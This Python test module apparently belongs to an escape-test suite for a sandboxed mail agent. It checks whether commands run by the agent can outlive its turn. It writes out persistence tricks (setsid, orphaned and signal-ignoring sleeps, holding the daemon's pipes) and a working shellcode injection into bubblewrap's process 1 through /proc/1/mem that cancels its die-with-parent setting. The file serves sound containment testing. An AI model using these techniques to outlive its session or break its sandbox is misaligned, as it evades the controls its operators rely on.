"""Attempts to outlive the turn: processes that let go of their parents, and one that rewrites bubblewrap itself."""

import asyncio
import os
import signal
import subprocess
from collections.abc import Iterable, Sequence
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

from mailagent.core.job import session_id
from mailagent.core.policy import arguments
from mailagent.core.values import Turn
from tests.fault.escapes.attempt import PASSED
from tests.fault.escapes.world import World, opened, session
from tests.integration.test_session import THREAD, bash, desk, text

ENDED = "ended with the turn"
FIRST = 31_415_900
"""How long the first one sleeps, and how it is found; the next ones a second longer each."""

REWRITE = """
import ctypes, os, sys, time
position = int(open("/proc/1/syscall").read().split()[-1], 16)
code = bytes.fromhex("bf0100000031f6b89d0000000f05" "b8220000000f05ebf7")  # prctl(PR_SET_PDEATHSIG, 0); pause for ever
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(position)
    memory.write(code)
if os.fork() == 0:
    if os.fork() == 0:
        time.sleep(0.2)
    os._exit(0)
os.wait()
while not open("/proc/1/syscall").read().startswith("34 "):
    time.sleep(0.01)
print("rewritten", flush=True)
"""
"""x86_64: process 1, which waits for children, goes on in code of ours when it reaps the next one."""


@dataclass(frozen=True)
class Leftover:
    """`start` begins it in the background; MARK is its number."""

    name: str
    tries: str
    start: str
    refused: str = ENDED
    without: str = "bare"


LEFTOVERS = (
    Leftover("child", "Leaves a process behind.", "sleep MARK >/dev/null 2>&1 &"),
    Leftover(
        "child_in_a_session_of_its_own", "Leaves one that no signal to its group reaches.", "setsid -f sleep MARK"
    ),
    Leftover("orphan", "Leaves one whose parents are gone.", "(setsid bash -c '(sleep MARK &) &' &) >/dev/null 2>&1"),
    Leftover(
        "deaf_child",
        "Leaves one that ignores signals.",
        "bash -c 'trap \"\" TERM HUP INT QUIT PIPE; exec setsid -f sleep MARK'",
    ),
    Leftover(
        "child_with_the_pipes",
        "Leaves one that holds the pipes that the daemon reads from.",
        "setsid -f sleep MARK </proc/$CLAUDE_PID/fd/0 >>/proc/$CLAUDE_PID/fd/1 2>>/proc/$CLAUDE_PID/fd/2",
    ),
    Leftover(
        "rewritten_process_1",
        "Writes into bubblewrap's memory and takes back its promise to die with the daemon.",
        'setsid -f sleep MARK; echo "$REWRITE" > work/rewrite.py; python3 work/rewrite.py',
        without="bubblewrap alone",
    ),
)
MARKS = {each.name: str(FIRST + number) for number, each in enumerate(LEFTOVERS)}


def alive(mark: str) -> list[int]:
    """Processes of this host that sleep for so long."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            if path.read_bytes().split(b"\0")[:2] == [b"sleep", mark.encode()]:
                found.append(int(path.parent.name))
    return found


def _command(each: Leftover) -> str:
    return f"REWRITE='{REWRITE}'; " + each.start.replace("MARK", MARKS[each.name])


async def inside(place: Path) -> dict[str, str]:
    """What becomes of each when the turn ends that it was started in."""
    async with desk(place, [*(bash(_command(each)) for each in LEFTOVERS), text("ok")]) as at:
        async with session(at, await opened(at, THREAD)) as asked:
            await asked.ask(Turn(THREAD, 1, session_id(THREAD), "hello"))
            await _began(MARKS.values())
        assert "rewritten" in str(at.model.requests[-1][1]["messages"][-1])
    return {name: _end(mark) for name, mark in MARKS.items()}


async def bare() -> dict[str, str]:
    """What becomes of each when the shell ends that it was started from."""
    ends = {}
    for each in LEFTOVERS:
        if each.without == "bare":
            command = _command(each).replace("$CLAUDE_PID", "$$")
            null = asyncio.subprocess.DEVNULL
            shell = await asyncio.create_subprocess_exec("bash", "-c", command, stdin=null, stdout=null, stderr=null)
            await shell.wait()
            await _began([MARKS[each.name]])
            ends[each.name] = _end(MARKS[each.name])
    return ends


async def by_bubblewrap_alone(world: World) -> dict[str, str]:
    """What becomes of the last one when nothing holds process 1 but bubblewrap's own promise."""
    each = LEFTOVERS[-1]
    command = ["bash", "-c", f"{_command(each)}; sleep 1000"]
    start = [*arguments(world.policy, world.targets["etc"]), "--remount-ro", "/", "--", *command]
    await asyncio.to_thread(_killed_when_it_speaks, start)
    return {each.name: _end(MARKS[each.name])}


def _killed_when_it_speaks(command: Sequence[str]) -> None:
    with subprocess.Popen(command, stdout=subprocess.PIPE, env={}) as outer:
        assert outer.stdout is not None
        outer.stdout.readline()
        outer.kill()


async def _began(marks: Iterable[str]) -> None:
    async with asyncio.timeout(30):
        for mark in marks:
            while not alive(mark):
                await asyncio.sleep(0.01)


def _end(mark: str) -> str:
    """Whether it lives; if so, no longer, and all that is in its sandbox."""
    found = alive(mark)
    for process in found:
        os.kill(_first(process), signal.SIGKILL)
    return f"{PASSED}it lives" if found else ENDED


def _first(process: int) -> int:
    """Process 1 of the sandbox that this one lives in; itself where it lives in none."""
    status = dict(line.split(":", 1) for line in Path(f"/proc/{process}/status").read_text().splitlines())
    return int(status["PPid"] if len(status["NSpid"].split()) > 1 else process)
